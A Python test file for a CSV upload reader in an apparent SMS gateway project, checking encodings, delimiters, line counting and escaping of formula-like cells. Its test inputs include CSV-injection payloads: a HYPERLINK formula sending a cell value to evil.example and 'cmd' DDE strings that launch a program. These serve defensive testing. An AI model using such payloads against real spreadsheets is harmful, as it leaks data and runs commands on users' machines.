"""Uploaded CSV files as spreadsheets write them: encodings, delimiters, file lines, short rows, our own exports."""

import codecs

import pytest

from modemgw import csvfile


def test_an_excel_file_from_germany_semicolons_in_windows_1252_is_read_with_its_lines():
    data = "Name;Mobil;Zeit\r\nJörg Müller;0151 1234567;10:00\r\n\r\nÅsa;+46 70 123 45 67\r\n".encode("cp1252")
    table = csvfile.read(data)
    assert (table.columns, table.delimiter_name, table.encoding) == (["Name", "Mobil", "Zeit"], "semicolon",
                                                                      "Windows-1252")
    assert [(row.line, row.values, row.missing) for row in table.rows] == [
        (2, {"Name": "Jörg Müller", "Mobil": "0151 1234567", "Zeit": "10:00"}, []),
        (4, {"Name": "Åsa", "Mobil": "+46 70 123 45 67"}, ["Zeit"])]  # line 3 is blank; line 4 is short


@pytest.mark.parametrize("data, encoding, delimiter", [
    (codecs.BOM_UTF8 + "to,name\n+447700900001,Zoë\n".encode(), "UTF-8", ","),
    ("to\tname\n+447700900001\tZoë\n".encode("utf-16"), "UTF-16", "\t"),
    ("to;name\n+447700900001;Zoë\n".encode(), "UTF-8", ";"),
])
def test_encodings_and_delimiters_are_detected(data, encoding, delimiter):
    table = csvfile.read(data)
    assert (table.encoding, table.delimiter, table.rows[0].values) == (encoding, delimiter,
                                                                       {"to": "+447700900001", "name": "Zoë"})


def test_a_quoted_cell_may_hold_the_delimiter_and_a_line_break_and_lines_still_count():
    table = csvfile.read(b'to,note\n+447700900001,"a, b\nc"\n+447700900002,d\n')
    assert [(row.line, row.values["note"]) for row in table.rows] == [(2, "a, b\nc"), (4, "d")]


def test_our_own_formula_safe_cells_read_back_as_written():
    cells = ["+447700900001", "=SUM(A1)", "-5", "@home", "plain", "'quoted by a person", "'+447700900001", "'=1",
             "''=1", "'", "", "-", "+", "\tx", "\rx", "a=1", "+44 (0)7700 900001", "'-2+3"]
    assert [csvfile.unguard(csvfile.guard(cell)) for cell in cells] == cells
    table = csvfile.read(b"to,x\n+447700900001,'=1+1\n")
    assert table.rows[0].values == {"to": "+447700900001", "x": "=1+1"}


@pytest.mark.parametrize("cell", ["+447700900123", "+44 7700 900123", "+1 (555) 010-9999", "-12.50", "-5", "+1",
                                  "0044-7700.900123", "(0)20 7946 0000", "-(5)"])
def test_a_plain_number_is_written_as_it_is(cell):
    """A phone number or an amount cannot run anything: scripts and spreadsheets read it unchanged."""
    assert csvfile.plain_number(cell)
    assert csvfile.guard(cell) == cell and csvfile.unguard(cell) == cell


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "=1+1", "+1+1", "-1*2", "+44 7700 x",
                                  "\t=1", "\r=1", "+", "-", "+ 1", "-1 ", "+1e5", "-0x10", "+١٢٣", "=", "@",
                                  "'=HYPERLINK(1)", "''+cmd|x"])
def test_what_a_spreadsheet_could_run_is_still_guarded(cell):
    assert csvfile.guard(cell) == "'" + cell
    assert csvfile.unguard(csvfile.guard(cell)) == cell


def test_what_cannot_be_a_table_is_refused_before_it_is_read():
    with pytest.raises(csvfile.CsvError, match="at most"):
        csvfile.read(b"x" * (csvfile.MAX_BYTES + 1))
    with pytest.raises(csvfile.CsvError, match="empty"):
        csvfile.read(b" \r\n")
    with pytest.raises(csvfile.CsvError, match="twice"):
        csvfile.read(b"to,to\n1,2\n")
    with pytest.raises(csvfile.CsvError, match="more than 2 rows"):
        csvfile.read(b"to\n1\n2\n3\n", max_rows=2)


def test_the_phone_column_is_found_by_its_usual_names():
    assert csvfile.phone_column(["Name", "Mobile"]) == "Mobile"
    assert csvfile.phone_column(["name", "Phone Number"]) == "Phone Number"
    assert csvfile.phone_column(["name", "city"]) is None
